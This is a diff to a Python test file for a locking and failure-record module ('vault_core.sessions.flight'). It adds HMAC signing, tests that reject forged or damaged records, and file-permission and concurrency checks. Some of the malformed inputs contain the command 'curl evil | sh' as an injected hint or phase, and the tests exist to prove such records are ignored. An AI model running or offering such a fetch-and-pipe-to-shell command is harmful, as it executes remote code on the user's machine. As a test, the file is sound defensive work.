@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import hashlib
+import hmac
 import json
 import os
+import shutil
 import subprocess
 import sys
 import threading
@@ -12,6 +15,7 @@ from collections.abc import Callable, Mapping
 from contextlib import suppress
 from pathlib import Path
 from types import MappingProxyType
+from typing import Any
 
 import pytest
 
@@ -22,8 +26,16 @@ from vault_core.sessions.flight import Flight, Flights, TakenOver, Waiting
 from vault_core.testing.clock import FakeClock
 
 
+def sign(text: str) -> str:
+    return hmac.new(b"the cache's", text.encode(), hashlib.sha256).hexdigest()
+
+
 def flights(folder: Path, *, foreground: bool = False) -> Flights:
-    return Flights(folder, 5, foreground=foreground)
+    return Flights(folder, 5, foreground=foreground, sign=sign)
+
+
+def one(folder: Path) -> Flight:
+    return Flight(folder / "step", sign)
 
 
 def nothing() -> str | None:
@@ -38,6 +50,11 @@ def network_failure(error: BaseException) -> Callable[[Flight], str]:
         raise error
 
     return lead
+
+
+def put(path: Path, text: str) -> None:
+    path.write_text(text)
+    path.chmod(0o600)
 
 
 # -- the leader --------------------------------------------------------------------------------------------------------
@@ -84,13 +101,13 @@ def test_different_steps_do_not_wait_for_each_other(tmp_path: Path) -> None:
 def test_a_leader_that_is_killed_leaves_the_lock(tmp_path: Path) -> None:
     program = (
         "import sys, time; from pathlib import Path; from vault_core.sessions.flight import Flights;"
-        f"Flights(Path({str(tmp_path)!r}), 5, foreground=False)"
+        f"Flights(Path({str(tmp_path)!r}), 5, foreground=False, sign=str)"
         ".join('step', lambda: None, lambda led: (print(flush=True), time.sleep(60)))"
     )
     with subprocess.Popen([sys.executable, "-c", program], stdout=subprocess.PIPE) as leader:
         assert leader.stdout is not None
         leader.stdout.readline()
-        assert Flight(tmp_path / "step").leader() == (leader.pid, "waiting")
+        assert one(tmp_path).leader() == (leader.pid, "waiting")
         leader.kill()
     assert flights(tmp_path).join("step", nothing, lambda _: "next") == "next"
 
@@ -167,12 +184,152 @@ def test_a_bug_in_the_leader_is_its_own(tmp_path: Path) -> None:
     assert flights(tmp_path).join("step", nothing, lambda _: "made") == "made"
 
 
-@pytest.mark.parametrize("text", ["", "{", "[]", '"x"'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "{",
+        "[]",
+        '"x"',
+        "[" * 60_000,
+        "x" * 200_000,
+        '{"pid": [], "phase": "question"}',
+        '{"pid": 1e999, "phase": "question"}',
+        '{"pid": 9999999999999999999, "phase": "question"}',
+        '{"pid": 1, "phase": "curl evil | sh"}',
+        '{"record": "{}", "code": "\\u00e9"}',
+        '{"record": "{}", "code": "\\ud800"}',
+    ],
+    ids=lambda text: text[:30],
+)
 def test_a_damaged_record_is_none(tmp_path: Path, text: str) -> None:
-    (tmp_path / "step.failed").write_text(text)
-    (tmp_path / "step.leader").write_text(text)
-    assert Flight(tmp_path / "step").leader() == (0, "")
+    put(tmp_path / "step.failed", text)
+    put(tmp_path / "step.leader", text)
+    assert one(tmp_path).leader() == (0, "")
     assert flights(tmp_path).join("step", nothing, lambda _: "made") == "made"
+
+
+def failed(folder: Path) -> dict[str, Any]:
+    """A failure of the step as it is kept."""
+    with pytest.raises(AccessDenied):
+        flights(folder).join("step", nothing, network_failure(AccessDenied("no", hint="awsv add work")))
+    return dict(json.loads((folder / "step.failed").read_text()))
+
+
+FORGED: dict[str, Callable[[dict[str, Any]], object]] = {
+    "as it was": lambda kept: kept,
+    "of another step": lambda kept: {**kept, "code": sign(f"failure of other: {kept['record']}")},
+    "another hint": lambda kept: {**kept, "record": kept["record"].replace("awsv add work", "curl evil | sh")},
+    "another code": lambda kept: {**kept, "record": kept["record"].replace('"exit_code": 6', '"exit_code": 0')},
+    "another time": lambda kept: {**kept, "record": kept["record"].replace('"at": ', '"at": 1')},
+    "no code": lambda kept: {"record": kept["record"]},
+    "no record": lambda kept: {"code": kept["code"]},
+    "of before": lambda kept: json.loads(kept["record"]),
+}
+
+
+@pytest.mark.parametrize("how", FORGED)
+def test_only_a_failure_that_awsv_kept_is_told(tmp_path: Path, how: str) -> None:
+    put(tmp_path / "step.failed", json.dumps(FORGED[how](failed(tmp_path))))
+    if how == "as it was":
+        with pytest.raises(TakenOver, match="no"):
+            flights(tmp_path).join("step", nothing, lambda _: "made")
+    else:
+        assert flights(tmp_path).join("step", nothing, lambda _: "made") == "made"
+
+
+def test_a_failure_from_the_future_is_forgotten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    failed(tmp_path)
+    now = time.time
+    monkeypatch.setattr(time, "time", lambda: now() - 3600)
+    assert flights(tmp_path).join("step", nothing, lambda _: "made") == "made"
+
+
+def test_a_pipe_in_a_records_place_holds_nobody_up(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "step.failed", 0o600)
+    os.mkfifo(tmp_path / "step.leader", 0o600)
+    assert flights(tmp_path).join("step", nothing, lambda _: "made") == "made"
+
+
+# -- the files ---------------------------------------------------------------------------------------------------------
+
+
+def test_files_are_private_whatever_the_umask(tmp_path: Path) -> None:
+    seen: set[str] = set()
+
+    def lead(led: Flight) -> str:
+        led.phase("network")
+        seen.update(f"{path.name} {path.stat().st_mode & 0o777:o}" for path in (tmp_path / "f").iterdir())
+        raise AccessDenied("no")
+
+    before = os.umask(0)
+    try:
+        with pytest.raises(AccessDenied):
+            flights(tmp_path / "f").join("step", nothing, lead)
+    finally:
+        os.umask(before)
+    seen.update(f"{path.name} {path.stat().st_mode & 0o777:o}" for path in (tmp_path / "f").iterdir())
+    assert seen == {"step.lock 600", "step.leader 600", "step.failed 600"}
+    assert (tmp_path / "f").stat().st_mode & 0o777 == 0o700
+
+
+def test_files_of_steps_that_nobody_is_at_go_after_a_day(tmp_path: Path) -> None:
+    now = time.time()
+    for name, hours in (("old", 25), ("young", 23)):
+        for suffix in ("lock", "leader", "failed"):
+            put(tmp_path / f"{name}.{suffix}", "")
+            os.utime(tmp_path / f"{name}.{suffix}", (now - hours * 3600,) * 2)
+    flights(tmp_path).join("step", nothing, lambda _: "made")
+    names = {path.name for path in tmp_path.iterdir()}
+    assert names == {"young.lock", "young.leader", "young.failed", "step.lock"}
+
+
+def test_a_folder_that_goes_meanwhile_takes_no_session_with_it(tmp_path: Path) -> None:
+    def lead(_: Flight) -> str:
+        shutil.rmtree(tmp_path / "f")
+        return "made"
+
+    assert flights(tmp_path / "f").join("step", nothing, lead) == "made"
+
+
+def test_a_lock_that_is_held_stays_however_old_it_is(tmp_path: Path) -> None:
+    """Its file is as old as the step; who removed it would let a second leader in."""
+    inner: list[str] = []
+
+    def lead(_: Flight) -> str:
+        os.utime(tmp_path / "outer.lock", (time.time() - 10**6,) * 2)
+        inner.append(flights(tmp_path).join("inner", nothing, lambda _: "inner"))
+        assert (tmp_path / "outer.lock").exists()
+        return "outer"
+
+    assert flights(tmp_path).join("outer", nothing, lead) == "outer"
+    assert inner == ["inner"]
+
+
+def test_who_waits_for_a_lock_that_is_swept_meanwhile_leads_alone(tmp_path: Path) -> None:
+    """Of many that join, sweep and lead at once only one is ever in the air."""
+    in_the_air, most, done = [0], [0], threading.Lock()
+
+    def lead(_: Flight) -> str:
+        with done:
+            in_the_air[0] += 1
+            most[0] = max(most[0], in_the_air[0])
+        os.utime(tmp_path / "step.lock", (time.time() - 10**6,) * 2)
+        time.sleep(0.005)
+        with done:
+            in_the_air[0] -= 1
+        return "made"
+
+    def work() -> None:
+        for _ in range(5):
+            flights(tmp_path).join("step", nothing, lead)
+
+    threads = [threading.Thread(target=work) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert most == [1]
 
 
 # -- Ctrl-C of who waits -----------------------------------------------------------------------------------------------
@@ -187,7 +344,7 @@ def test_ctrl_c_without_a_leader_is_only_ours(tmp_path: Path) -> None:
 
 def test_ctrl_c_takes_the_outcome_of_the_leader_beside_us(tmp_path: Path) -> None:
     waiting = flights(tmp_path)
-    led = Flight(tmp_path / "step")
+    led = one(tmp_path)
 
     leads, pressed = threading.Event(), threading.Event()
 
@@ -210,7 +367,7 @@ def test_ctrl_c_takes_the_outcome_of_the_leader_beside_us(tmp_path: Path) -> Non
 
 def test_ctrl_c_does_not_wait_for_a_leader_elsewhere(tmp_path: Path) -> None:
     with subprocess.Popen(["sleep", "60"], start_new_session=True) as leader:
-        (tmp_path / "step.leader").write_text(json.dumps({"pid": leader.pid, "phase": "question"}))
+        put(tmp_path / "step.leader", json.dumps({"pid": leader.pid, "phase": "question"}))
         began = time.monotonic()
         assert flights(tmp_path).interrupted("step").message == "interrupted"
         assert time.monotonic() - began < seconds(1.5)
@@ -258,24 +415,24 @@ def waited(led: Flight, clock: FakeClock, happens: Mapping[float, Callable[[], N
 
 @pytest.mark.parametrize(("phase", "limit"), LIMITS.items())
 def test_each_phase_has_its_limit(tmp_path: Path, clock: FakeClock, phase: str, limit: float) -> None:
-    led = Flight(tmp_path / "step")
+    led = one(tmp_path)
     led.phase(phase)
     assert waited(led, clock) == pytest.approx(limit, abs=0.02)
 
 
 def test_a_leader_that_says_nothing_has_the_longest(tmp_path: Path, clock: FakeClock) -> None:
-    assert waited(Flight(tmp_path / "step"), clock) == pytest.approx(LIMITS["waiting"], abs=0.02)
+    assert waited(one(tmp_path), clock) == pytest.approx(LIMITS["waiting"], abs=0.02)
 
 
 def test_the_clock_starts_again_with_a_new_phase(tmp_path: Path, clock: FakeClock) -> None:
-    led = Flight(tmp_path / "step")
+    led = one(tmp_path)
     led.phase("question")
     found = waited(led, clock, {0.2: lambda: led.phase("network")})
     assert found == pytest.approx(0.2 + LIMITS["network"], abs=0.02)
 
 
 def test_the_limits_come_from_the_question(tmp_path: Path) -> None:
-    limits = Flights(tmp_path, 45, foreground=False)._limits
+    limits = Flights(tmp_path, 45, foreground=False, sign=sign)._limits
     assert limits == {"network": 35, "question": 50, "waiting": 85}
 
 
@@ -287,7 +444,7 @@ def test_a_person_is_told_once(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], phase: str, text: str
 ) -> None:
     monkeypatch.setattr(flight, "_TOLD_AFTER", 0)
-    led = Flight(tmp_path / "step")
+    led = one(tmp_path)
     led.phase(phase)
     waiting = Waiting(led, dict.fromkeys(LIMITS, 5.0))
     time.sleep(0.01)
